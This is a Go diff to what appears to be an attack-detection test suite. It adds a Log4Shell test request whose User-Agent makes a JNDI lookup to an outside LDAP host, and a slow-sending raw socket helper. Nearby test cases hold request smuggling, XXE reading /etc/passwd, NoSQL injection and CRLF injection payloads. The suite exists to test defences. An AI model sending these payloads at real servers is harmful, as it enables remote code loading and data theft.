@@ -23,6 +23,10 @@ type httpCase struct {
 	Raw     string // a whole HTTP/1.1 request; Host is filled in by rawRequest
 }
 
+// pause in a Raw request: the sender stops there for a second (a slow client: the bytes before
+// it arrive, and may be forwarded, before the request is complete).
+const pause = "<<PAUSE>>"
+
 const multipartBoundary = "------------------------mgE2Eb0undary7d1c"
 
 // multipart builds a multipart/form-data body the way curl -F does.
@@ -77,6 +81,7 @@ var attackCases = []httpCase{
 	{Name: "smuggling cl.te", Want: threat.HTTPSmuggling, Raw: "POST /search?v=cl-te HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"},
 	{Name: "smuggling two content-lengths", Want: threat.HTTPSmuggling, Raw: "POST /search?v=cl-cl HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 11\r\n\r\nq=1GET / HT"},
 	{Name: "smuggling obfuscated te", Want: threat.HTTPSmuggling, Raw: "POST /search?v=te-obf HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n5c\r\n"},
+	{Name: "log4shell header, slow body", Want: threat.Log4Shell, Raw: "POST /api/v1/events?slow=1 HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9:1389/slow}\r\nContent-Type: application/json\r\nContent-Length: 12\r\n\r\n{\"a\":" + pause + "\"b\"}   "},
 	{Name: "xxe external entity", Want: threat.XXE, Method: "POST", Target: "/api/v1/import", Headers: []string{"Content-Type: application/xml"}, Body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`},
 	{Name: "nosql operator injection", Want: threat.NoSQLInjection, Method: "GET", Target: "/login?username%5B%24ne%5D=admin&password%5B%24ne%5D=x"},
 	{Name: "crlf header injection", Want: threat.CRLFInjection, Method: "GET", Target: "/redirect?to=%0d%0aSet-Cookie:%20session%3Dattacker"},
@@ -134,11 +139,19 @@ func curlArgs(c httpCase, base string) []string {
 	return append(args, base+c.Target)
 }
 
-// rawSender writes argv[2] (base64) to host argv[1] port 80 and prints what comes back (a
+// rawSender writes argv[2] (base64; pausing at each pause marker) to host argv[1] port 80 and prints what comes back (a
 // response, or the error), with the status code on the last line ("000" without a response).
-const rawSender = `import base64, socket, sys
+const rawSender = `import base64, socket, sys, time
 s = socket.create_connection((sys.argv[1], 80), timeout=5)
-s.sendall(base64.b64decode(sys.argv[2]))
+parts = base64.b64decode(sys.argv[2]).split(b"<<PAUSE>>")
+for i, p in enumerate(parts):
+    if i:
+        time.sleep(1)
+    try:
+        s.sendall(p)
+    except Exception as e:
+        print("error:", e)
+        break
 data = b""
 try:
     while b"\r\n\r\n" not in data or len(data) < 4096:
@@ -167,7 +180,7 @@ func rawArgs(c httpCase, host string) []string {
 // sends for the other cases (for the offline check of the lists).
 func rawRequest(c httpCase, host string) string {
 	if c.Raw != "" {
-		line, rest, _ := strings.Cut(c.Raw, "\r\n")
+		line, rest, _ := strings.Cut(strings.ReplaceAll(c.Raw, pause, ""), "\r\n")
 		return line + "\r\nHost: " + host + "\r\n" + rest
 	}
 	var b strings.Builder
